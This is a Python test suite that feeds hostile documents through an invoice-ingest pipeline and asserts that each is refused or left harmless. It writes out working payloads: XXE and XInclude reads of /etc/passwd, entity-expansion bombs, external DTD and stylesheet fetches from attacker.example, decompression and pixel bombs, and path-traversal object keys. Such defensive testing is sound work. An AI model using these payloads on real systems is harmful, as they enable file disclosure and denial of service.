"""Hostile input through the whole ingest: one table of cases, one run, one verdict per case.

Every case is uploaded into one stage beside good documents and one ingest run processes them
all: each hostile document ends FAILED with its code and a message in the run summary, each bad
key is reported INVALID_KEY with its reason and gets no item and no result, the good documents
in the same batch end PROCESSED, and no raw object changes. PDFs are built at test time with
pypdf; sizes stay bounded (the "huge" input is just above ExtractionSettings.max_input_bytes).
"""

from __future__ import annotations

import gzip
import io
import os
import struct
import subprocess
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from pypdf import PdfWriter
from pypdf.generic import NameObject, NumberObject, StreamObject
from reliability_helpers import read_result

from jobs.contract import FailureCode, Status, layout
from jobs.demo.corpus import generate
from jobs.extract import ExtractionSettings
from jobs.ingest.plans import BackfillPlan
from jobs.ingest.run import IngestRun
from jobs.ingest.summary import RunSummary

MIB = 1024 * 1024
MAX_INPUT = ExtractionSettings().max_input_bytes
MAX_ATTACHMENT = ExtractionSettings().max_attachment_bytes
INVALID_KEY = "INVALID_KEY"
UBL_NS = (
    'xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2" '
    'xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2"'
)
_GOOD = {d.kind: d for d in generate(1, 10, bad_ratio=0, review_ratio=0, seed=5)}
GOOD_UBL = _GOOD["ubl"].body
GOOD_CII = _GOOD["cii"].body


# --- builders -------------------------------------------------------------------------------
def pdf(attachment: bytes | None = None, pages: int = 1, password: str | None = None) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=200, height=200)
    if attachment is not None:
        writer.add_attachment("factur-x.xml", attachment)
    if password:
        writer.encrypt(password)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _deflated_zeros(size: int) -> bytes:
    comp = zlib.compressobj(9)
    chunk = bytes(MIB)
    return b"".join(comp.compress(chunk) for _ in range(size // MIB)) + comp.flush()


def flate_bomb_pdf(inflated: int, *, attachment: bool) -> bytes:
    """A ~200 KB PDF whose FlateDecode stream (embedded file or page content) inflates to `inflated`."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=200, height=200)
    data = _deflated_zeros(inflated)
    if attachment:
        writer.add_attachment("factur-x.xml", b"<x/>")
        spec = writer._root_object["/Names"]["/EmbeddedFiles"]["/Names"][1].get_object()
        stream = spec["/EF"]["/F"].get_object()
        stream._data = data
        stream[NameObject("/Filter")] = NameObject("/FlateDecode")
        stream[NameObject("/Length")] = NumberObject(len(data))
        if "/Params" in stream:
            del stream["/Params"]  # the declared size would give the bomb away
    else:
        stream = StreamObject()
        stream._data = data
        stream[NameObject("/Filter")] = NameObject("/FlateDecode")
        page[NameObject("/Contents")] = writer._add_object(stream)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def zip_bomb(size: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("invoice.xml", b"<a>" + bytes(size))
    return out.getvalue()


def with_pi(xml: bytes) -> bytes:
    """A processing instruction (an XSLT stylesheet on a remote host) after the declaration."""
    decl, _, rest = xml.partition(b"?>")
    return decl + b'?><?xml-stylesheet type="text/xsl" href="http://attacker.example/x.xsl"?>' + rest


XXE = f"""<?xml version="1.0"?>
<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Invoice {UBL_NS}><cbc:ID>&xxe;</cbc:ID></Invoice>""".encode()
BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>
<lolz>&lol4;</lolz>"""
EXTERNAL_DTD = f"""<?xml version="1.0"?>
<!DOCTYPE Invoice SYSTEM "http://attacker.example/evil.dtd">
<Invoice {UBL_NS}><cbc:ID>1</cbc:ID></Invoice>""".encode()
PARAMETER_ENTITY = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><x/>'
QUADRATIC = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "' + b"A" * 50_000 + b'">]><x>' + b"&a;" * 2_000 + b"</x>"
XINCLUDE = (
    f'<Invoice {UBL_NS} xmlns:xi="http://www.w3.org/2001/XInclude">'
    '<cbc:ID><xi:include href="file:///etc/passwd" parse="text"/></cbc:ID></Invoice>'
).encode()


# --- the table ------------------------------------------------------------------------------
@dataclass(frozen=True)
class Case:
    id: str
    key: str
    body: Callable[[], bytes]
    expect: str  # a FailureCode, INVALID_KEY, or the status of content that is harmless after all


def doc(case_id: str, filename: str, body: Callable[[], bytes], expect: str) -> Case:
    # Each case is its own user's: several wrap the good invoice, and two of one user's uploads
    # carrying one invoice would be duplicates (sent to review, docs/review.md), not the case.
    return Case(case_id, f"raw/{case_id}/hostile/{filename}", body, expect)


def bad_key(case_id: str, key: str) -> Case:
    return Case(case_id, key, lambda: GOOD_UBL, INVALID_KEY)


CASES: list[Case] = [
    # XML attacks
    doc("xxe", "invoice.xml", lambda: XXE, FailureCode.UNSAFE_XML),
    doc("billion-laughs", "invoice.xml", lambda: BILLION_LAUGHS, FailureCode.UNSAFE_XML),
    doc("quadratic-blowup", "invoice.xml", lambda: QUADRATIC, FailureCode.UNSAFE_XML),
    doc("external-dtd", "invoice.xml", lambda: EXTERNAL_DTD, FailureCode.UNSAFE_XML),
    doc("parameter-entity", "invoice.xml", lambda: PARAMETER_ENTITY, FailureCode.UNSAFE_XML),
    doc(
        "utf16-doctype",
        "invoice.xml",
        lambda: XXE.decode().replace('"1.0"', '"1.0" encoding="UTF-16"', 1).encode("utf-16"),
        FailureCode.UNSAFE_XML,
    ),
    doc("xxe-in-facturx", "invoice.pdf", lambda: pdf(XXE), FailureCode.UNSAFE_XML),
    # harmless after all: the stylesheet is never fetched, the XInclude never followed
    doc("processing-instruction", "invoice.xml", lambda: with_pi(GOOD_UBL), Status.PROCESSED),
    doc("xinclude", "invoice.xml", lambda: XINCLUDE, Status.REVIEW_REQUIRED),
    # PDFs
    doc("truncated-pdf", "invoice.pdf", lambda: pdf(GOOD_CII)[:-400], FailureCode.MALFORMED),
    doc("half-pdf", "invoice.pdf", lambda: (b := pdf(GOOD_CII))[: len(b) // 2], FailureCode.MALFORMED),
    doc("encrypted-pdf", "invoice.pdf", lambda: pdf(GOOD_CII, password="secret"), FailureCode.ENCRYPTED),
    doc(
        "garbage-pdf-header",
        "invoice.pdf",
        lambda: b"%PDF-1.7\n" + b"\x00garbage" * 50 + b"\n%%EOF\n",
        FailureCode.MALFORMED,
    ),
    doc("huge-pdf", "invoice.pdf", lambda: b"%PDF-1.7\n" + os.urandom(MAX_INPUT - 8), FailureCode.TOO_LARGE),
    doc("oversized-attachment", "invoice.pdf", lambda: pdf(os.urandom(MAX_ATTACHMENT + 1024)), FailureCode.TOO_LARGE),
    doc("too-many-pages", "invoice.pdf", lambda: pdf(GOOD_CII, pages=201), FailureCode.TOO_LARGE),
    doc(
        "flate-bomb-attachment",
        "invoice.pdf",
        lambda: flate_bomb_pdf(200 * MIB, attachment=True),
        FailureCode.MALFORMED,
    ),
    doc("flate-bomb-page", "invoice.pdf", lambda: flate_bomb_pdf(200 * MIB, attachment=False), FailureCode.NEEDS_OCR),
    doc("blank-pdf", "invoice.pdf", lambda: pdf(), FailureCode.NEEDS_OCR),
    # archives and compression bombs dressed as XML
    doc("gzip-bomb-as-xml", "invoice.xml", lambda: gzip.compress(bytes(50 * MIB), 9), FailureCode.UNSUPPORTED_FORMAT),
    doc("zip-bomb-as-xml", "invoice.xml", lambda: zip_bomb(50 * MIB), FailureCode.UNSUPPORTED_FORMAT),
    # encodings and bytes
    doc("zero-bytes", "invoice.pdf", lambda: b"", FailureCode.EMPTY),
    doc(
        "invalid-utf8-xml",
        "invoice.xml",
        lambda: GOOD_UBL.replace(b"<cbc:ID>", b"<cbc:ID>\xff\xfe\xc3", 1),
        FailureCode.MALFORMED,
    ),
    doc("invalid-utf8-json", "invoice.json", lambda: b'{"invoiceNumber": "\xff\xfe"}', FailureCode.MALFORMED),
    doc("nul-in-xml", "invoice.xml", lambda: GOOD_UBL[:200] + bytes(16) + GOOD_UBL[200:], FailureCode.MALFORMED),
    doc("nul-only", "invoice.xml", lambda: bytes(4096), FailureCode.UNSUPPORTED_FORMAT),
    doc(
        "bom-utf16-mismatch",
        "invoice.xml",
        lambda: b"\xef\xbb\xbf" + GOOD_UBL.decode().encode("utf-16-le"),
        FailureCode.MALFORMED,
    ),
    # JSON
    doc("deeply-nested-json", "invoice.json", lambda: b"[" * 200_000 + b"]" * 200_000, FailureCode.MALFORMED),
    doc("deeply-nested-xml", "invoice.xml", lambda: b"<a>" * 50_000 + b"</a>" * 50_000, FailureCode.MALFORMED),
    doc(
        "huge-single-line-json",
        "invoice.json",
        lambda: b'{"invoiceNumber": "1", "x": "' + b"9" * (8 * MIB) + b'"}',
        FailureCode.UNSUPPORTED_FORMAT,
    ),
    doc(
        "json-nan",
        "invoice.json",
        lambda: b'{"invoiceNumber": "1", "totalAmount": NaN, "currency": "EUR"}',
        FailureCode.MALFORMED,
    ),
    doc(
        "json-huge-number",
        "invoice.json",
        lambda: b'{"invoiceNumber": "1", "totalAmount": ' + b"9" * 5000 + b"}",
        FailureCode.MALFORMED,
    ),
    doc(
        "huge-invoice-number",
        "invoice.json",
        lambda: b'{"invoiceNumber": "' + b"9" * 500_000 + b'", "totalAmount": "1.00", "currency": "EUR"}',
        FailureCode.MALFORMED,
    ),  # regression: its item exceeded DynamoDB's 400 KB and aborted the run
    # wrong extensions: content decides
    doc("ubl-named-pdf", "invoice.pdf", lambda: GOOD_UBL, Status.PROCESSED),
    doc("png-named-xml", "invoice.xml", lambda: b"\x89PNG\r\n\x1a\n" + bytes(100), FailureCode.NEEDS_OCR),
    doc("html-named-xml", "invoice.xml", lambda: b"<html><body>hello</body></html>", FailureCode.UNSUPPORTED_FORMAT),
    doc("exe-named-pdf", "invoice.pdf", lambda: b"MZ\x90\x00" + bytes(1000), FailureCode.UNSUPPORTED_FORMAT),
    # keys
    bad_key("dot-dot-segment", "raw/../x"),
    bad_key("dot-dot-user", "raw/../d/invoice.xml"),
    bad_key("dot-dot-encoded-doc", "raw/u/..%2f/invoice.xml"),
    bad_key("dot-dot-encoded-file", "raw/u/d/..%2f"),  # regression: was ingested as filename '..%2f'
    bad_key("dot-segment", "raw/u/./invoice.xml"),
    bad_key("hash-in-user", "raw/user#1/d/invoice.xml"),
    bad_key("hash-in-document", "raw/u/doc#1/invoice.xml"),
    bad_key("control-char", "raw/u/doc\x01x/invoice.xml"),
    bad_key("ansi-escape", "raw/u/doc\x1b[31mx/invoice.xml"),  # moto refuses a newline in a key
    bad_key("rtl-override", "raw/u/doc\u202ex/invoice.xml"),
    bad_key("zero-width-space", "raw/u\u200b/d/invoice.xml"),
    bad_key("backslash", "raw/u/d\\..\\x/invoice.xml"),
    bad_key("leading-space", "raw/ u/d/invoice.xml"),
    bad_key("over-long-id", f"raw/u/{'d' * (layout.MAX_ID_LENGTH + 1)}/invoice.xml"),
    bad_key("over-long-filename", f"raw/u/d/{'f' * (layout.MAX_FILENAME_LENGTH + 1)}"),
    bad_key("nested", "raw/u/d/sub/invoice.xml"),
    bad_key("directory-marker", "raw/u/d/"),
    bad_key("too-short", "raw/u/invoice.xml"),
    Case("unicode-ids", "raw/zoë-ü/rechnung-ß-日本/invoice.xml", lambda: GOOD_UBL, Status.PROCESSED),
]
GOOD_KEYS = [f"raw/good/{kind}/{d.filename}" for kind, d in _GOOD.items()]


def _param(case: Case) -> object:
    return pytest.param(case, id=case.id)


@dataclass
class Outcome:
    stack: object
    summary: RunSummary | None
    error: BaseException | None
    before: dict[str, tuple[str, int]]
    after: dict[str, tuple[str, int]]


def _objects(stack) -> dict[str, tuple[str, int]]:
    pages = stack.s3().get_paginator("list_objects_v2").paginate(Bucket=stack.settings.store.raw_bucket)
    return {o["Key"]: (o["ETag"], o["Size"]) for page in pages for o in page.get("Contents", [])}


def _ingest(stack, cases: list[Case]) -> Outcome:
    s3 = stack.s3()
    for case in cases:
        s3.put_object(Bucket=stack.settings.store.raw_bucket, Key=case.key, Body=case.body())
    for kind, good in _GOOD.items():
        s3.put_object(Bucket=stack.settings.store.raw_bucket, Key=f"raw/good/{kind}/{good.filename}", Body=good.body)
    before = _objects(stack)
    summary, error = None, None
    try:
        summary = IngestRun(stack.settings, BackfillPlan()).execute()
    except Exception as exc:
        error = exc
    return Outcome(stack, summary, error, before, _objects(stack))


@pytest.fixture(scope="module")
def outcome(new_stage) -> Outcome:
    """One ingest over every case, and good documents beside them. OCR off: the codes are the
    extraction's own (the OCR path has its table below).
    """
    return _ingest(new_stage(ocr_engine="off"), CASES)


def _check(outcome: Outcome, case: Case) -> None:
    assert outcome.error is None, f"the run aborted: {outcome.error}"
    summary = outcome.summary
    assert summary is not None and summary.outcome == "completed"
    stack = outcome.stack
    assert outcome.after[case.key] == outcome.before[case.key], "raw object changed"
    items = {(i.userId, i.documentId): i for i in stack.items()}
    if case.expect == INVALID_KEY:
        reasons = {d.key: d.reason for d in summary.invalidKeys}
        assert case.key in reasons, sorted(reasons)
        assert reasons[case.key].startswith("INVALID_KEY: ") and len(reasons[case.key]) > len("INVALID_KEY: ")
        assert all(layout.parse_raw_key(i.rawS3Uri.split("/", 3)[3]) for i in items.values())
        assert case.key not in {layout.parse_s3_uri(i.rawS3Uri)[1] for i in items.values()}
        return
    raw = layout.parse_raw_key(case.key)
    item = items[(raw.user_id, raw.document_id)]
    result = read_result(stack, raw.user_id, raw.document_id)
    assert result.source.etag == item.rawEtag == outcome.before[case.key][0]
    assert item.status == result.validation.status
    if case.expect in Status.__members__:
        assert item.status == Status(case.expect), (item.failureCode, item.failureMessage)
        assert b"root:" not in result.to_json_bytes(), "a local file leaked into the result"
        return
    assert item.status == Status.FAILED, item.status
    assert item.failureCode == case.expect, item.failureMessage
    assert item.failureMessage
    failures = {d.key: d.reason for d in summary.failures}
    assert failures[case.key] == f"{case.expect}: {item.failureMessage}"


@pytest.mark.parametrize("case", [_param(c) for c in CASES])
def test_hostile_case(outcome: Outcome, case: Case) -> None:
    _check(outcome, case)


def test_the_batch_goes_on_and_nothing_else_changes(outcome: Outcome) -> None:
    assert outcome.error is None and outcome.summary is not None
    summary, stack = outcome.summary, outcome.stack
    items = {(i.userId, i.documentId): i for i in stack.items()}
    for key in GOOD_KEYS:
        raw = layout.parse_raw_key(key)
        assert items[(raw.user_id, raw.document_id)].status == Status.PROCESSED, key
    documents = [c for c in CASES if c.expect != INVALID_KEY]
    invalid = [c for c in CASES if c.expect == INVALID_KEY]
    expected_ids = {
        (r.user_id, r.document_id) for r in (layout.parse_raw_key(k) for k in [c.key for c in documents] + GOOD_KEYS)
    }
    assert set(items) == expected_ids  # no item for an invalid key
    assert set(stack.keys(stack.settings.store.processed_bucket)) == {layout.result_key(*i) for i in expected_ids}
    assert outcome.after == outcome.before  # raw objects untouched, none added or removed
    assert summary.invalidKeyCount == len(invalid)
    assert summary.processed == len(expected_ids)
    assert summary.statuses.get("FAILED", 0) == sum(1 for c in documents if c.expect not in Status.__members__)
    # the object above the size limit is failed from its listing size, never downloaded
    assert summary.calls["s3.GetObject"]["calls"] == len(expected_ids) - 1
    assert all(i.status != Status.PROCESSING and i.leaseOwner is None for i in items.values())


# --- the OCR path (embedded tesseract): what reaches it when a document needs OCR ---------------
def png(width: int, height: int, pixels: bytes = b"") -> bytes:
    """A PNG whose header declares `width` x `height` (a pixel bomb when they are huge)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(pixels)) + chunk(b"IEND", b"")


OCR_CASES: list[Case] = [
    doc("ocr-pixel-bomb", "scan.png", lambda: png(50_000, 50_000, bytes(1000)), FailureCode.MALFORMED),
    doc("ocr-12k-square-png", "scan.png", lambda: png(12_000, 12_000, bytes(12_001 * 12_000)), FailureCode.MALFORMED),
    doc("ocr-truncated-png", "scan.png", lambda: png(100, 100, bytes(101 * 100))[:60], FailureCode.MALFORMED),
    doc("ocr-garbage-png", "invoice.xml", lambda: b"\x89PNG\r\n\x1a\n" + bytes(100), FailureCode.MALFORMED),
]


@pytest.fixture(scope="module")
def ocr_outcome(new_stage) -> Outcome:
    return _ingest(new_stage(ocr_engine="local"), OCR_CASES)


@pytest.mark.parametrize("case", [_param(c) for c in OCR_CASES])
def test_hostile_case_on_the_ocr_path(ocr_outcome: Outcome, case: Case) -> None:
    _check(ocr_outcome, case)


PAGE_BOMB_TIMEOUT = ExtractionSettings().ocr_page_timeout_s + 10


@pytest.mark.slow
def test_a_pdf_page_bomb_is_refused_within_the_page_timeout() -> None:
    """Extraction of the page bomb in a child process, killed if it outlives the OCR page timeout."""
    script = (
        "import sys; from test_hostile_inputs import flate_bomb_pdf, MIB; "
        "from jobs.extract import extract_document, ExtractionSettings; "
        "o = extract_document(flate_bomb_pdf(100 * MIB, attachment=False), 'scan.pdf', "
        "ExtractionSettings(ocr_engine='local')); "
        "print(o.validation.status, o.validation.errorCode)"
    )
    here = Path(__file__).parent
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(here), str(here.parent.parent)])}
    try:
        done = subprocess.run(
            [sys.executable, "-c", script], env=env, capture_output=True, text=True, timeout=PAGE_BOMB_TIMEOUT
        )
    except subprocess.TimeoutExpired:
        pytest.fail(f"extraction still running after {PAGE_BOMB_TIMEOUT:.0f}s")
    assert done.returncode == 0 and done.stdout.startswith("FAILED"), done.stdout + done.stderr[-500:]
